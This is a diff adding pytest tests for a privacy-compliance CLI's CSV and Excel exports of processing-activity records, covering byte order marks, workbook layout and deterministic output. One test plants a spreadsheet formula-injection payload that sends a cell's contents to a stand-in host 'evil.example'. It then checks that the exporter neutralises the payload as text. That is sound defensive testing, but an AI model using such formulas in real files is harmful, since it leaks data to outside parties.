@@ -52,7 +52,7 @@ def test_swedish_csv_snapshot(snapshot: SnapshotAssertion) -> None:
 
 
 def test_csv_has_one_row_per_purpose_and_a_column_per_item() -> None:
-    rows = list(csv.reader(io.StringIO(ropa("csv"))))
+    rows = list(csv.reader(io.StringIO(ropa("csv").removeprefix("\ufeff"))))
     head, body = rows[0], rows[1:]
     assert head[:3] == ["Purpose id", "(a) Controller", "(b) Purpose"]
     assert [h[:3] for h in head if h.startswith("(")] == ["(a)", "(b)", "(c)", "(d)", "(e)", "(f)", "(g)"]
@@ -121,3 +121,118 @@ def test_unverified_retention_laws_are_marked_in_every_format() -> None:
         "f_erasure"]["text"]
     assert "krävs enligt: Bokföringslagen (1999:1078) 7 kap. 2 § [ej verifierad]" in ropa("csv", "sv")
     assert "Preskriptionslagen (1981:130) 2 § [unverified]" in ropa("markdown")
+
+
+# --- Excel: a byte order mark on the CSV, and a real workbook --------------------------------------
+
+
+def test_csv_starts_with_a_byte_order_mark(tmp_path: Path) -> None:
+    """Without it Excel reads the UTF-8 file in the local code page: "Ã„ndamÃ¥ls-id"."""
+    out = tmp_path / "ropa.csv"
+    assert run("ropa", str(ORG), "--format", "csv", "--lang", "sv", "--as-of", AS_OF, "-o", str(out)).exit_code == 0
+    data = out.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf\xc3\x84ndam\xc3\xa5ls-id,")
+    assert data.count(b"\xef\xbb\xbf") == 1
+    assert next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[0] == "Ändamåls-id"
+
+
+def _workbook(tmp_path: Path, lang: str = "en", directory: Path = ORG) -> tuple[Path, object]:
+    openpyxl = pytest.importorskip("openpyxl")
+    out = tmp_path / f"ropa-{lang}.xlsx"
+    result = run("ropa", str(directory), "--format", "xlsx", "--lang", lang, "--as-of", AS_OF, "-o", str(out))
+    assert result.exit_code == 0, result.output
+    assert result.output == ""
+    return out, openpyxl.load_workbook(out)
+
+
+def _widths(sheet: object) -> dict[int, float]:
+    """Column index (1-based) -> width, from the <col min max width> ranges of the sheet."""
+    out: dict[int, float] = {}
+    for dim in sheet.column_dimensions.values():  # type: ignore[attr-defined]
+        for col in range(dim.min, dim.max + 1):
+            out[col] = dim.width
+    return out
+
+
+@pytest.mark.parametrize(("lang", "title"), [("en", "Processing activities"), ("sv", "Behandlingar")])
+def test_xlsx_is_a_real_workbook_with_the_csv_values(tmp_path: Path, lang: str, title: str) -> None:
+    _, book = _workbook(tmp_path, lang)
+    assert book.sheetnames == [title]  # type: ignore[attr-defined]
+    sheet = book[title]  # type: ignore[index]
+    # the header row is frozen and the filter spans the header and every row
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == f"A1:I{1 + len(PURPOSES)}"
+    # the same text as the CSV, cell for cell; all strings
+    expected = list(csv.reader(io.StringIO(ropa("csv", lang).removeprefix("\ufeff"))))
+    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
+    assert values == expected
+    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row)
+    assert [row[0] for row in values[1:]] == PURPOSES
+    # header bold; cells wrap their lines; columns as wide as their text, within bounds
+    assert all(cell.font.b for cell in sheet[1])
+    assert all(cell.alignment.wrap_text for row in sheet.iter_rows(min_row=2) for cell in row)
+    widths = _widths(sheet)
+    assert sorted(widths) == list(range(1, 10))
+    assert all(10 <= w <= 51 for w in widths.values())
+    assert widths[1] >= len("backup-and-restore") and widths[4] > widths[1] - 10
+    # a row as tall as its longest cell, roughly
+    assert sheet.row_dimensions[2].height >= 15 * 5
+    assert book.properties.title and book.properties.created.date().isoformat() == AS_OF  # type: ignore[attr-defined]
+    # printed on A4 landscape, one page wide, the header on every page
+    assert sheet.page_setup.paperSize == 9 and sheet.page_setup.orientation == "landscape"
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToHeight == 0
+    assert sheet.print_title_rows == "$1:$1"
+
+
+def test_xlsx_is_byte_identical_for_identical_input(tmp_path: Path) -> None:
+    first, _ = _workbook(tmp_path / "a")
+    second, _ = _workbook(tmp_path / "b")
+    assert first.read_bytes() == second.read_bytes()
+    assert first.read_bytes().startswith(b"PK")
+
+
+def test_xlsx_never_makes_a_formula_of_declared_text(tmp_path: Path) -> None:
+    import shutil
+
+    repo = tmp_path / "org"
+    shutil.copytree(ORG, repo)
+    purposes = repo / "purposes.yaml"
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    purposes.write_text(purposes.read_text(encoding="utf-8").replace(
+        "name: Handling customer support cases", f"name: '{evil}'"), encoding="utf-8")
+    _, book = _workbook(tmp_path, "en", repo)
+    sheet = book["Processing activities"]  # type: ignore[index]
+    cell = next(c for c in sheet[2] if str(c.value).startswith("=HYPERLINK"))
+    assert cell.value.startswith(evil) and cell.data_type == "s" and cell.quotePrefix
+    # an ordinary cell is not quote-prefixed
+    assert not sheet["A2"].quotePrefix
+
+
+def test_xlsx_to_a_pipe_and_not_to_a_terminal(tmp_path: Path) -> None:
+    import os
+    import pty
+    import subprocess
+    import sys
+
+    command = [sys.executable, "-m", "policycheck", "ropa", str(ORG), "--format", "xlsx", "--as-of", AS_OF]
+    piped = subprocess.run(command, capture_output=True, check=False)
+    assert piped.returncode == 0 and piped.stdout.startswith(b"PK")
+    assert piped.stdout == _workbook(tmp_path)[0].read_bytes()
+    leader, follower = pty.openpty()
+    try:
+        tty = subprocess.run(command, stdout=follower, stderr=subprocess.PIPE, check=False)
+    finally:
+        os.close(follower)
+        os.close(leader)
+    assert tty.returncode == 2
+    assert b"--output" in tty.stderr and b"Traceback" not in tty.stderr
+
+
+def test_sheet_names_are_valid_and_unique() -> None:
+    from policycheck.reports.ropa import sheet_name
+
+    taken: set[str] = set()
+    assert sheet_name("Behandlingar", taken) == "Behandlingar"
+    assert sheet_name("behandlingar", taken) == "behandlingar (2)"
+    long = sheet_name("Register: [a/b] * of processing activities? yes", taken)
+    assert len(long) <= 31 and not set(long) & set("[]:*?/\\")
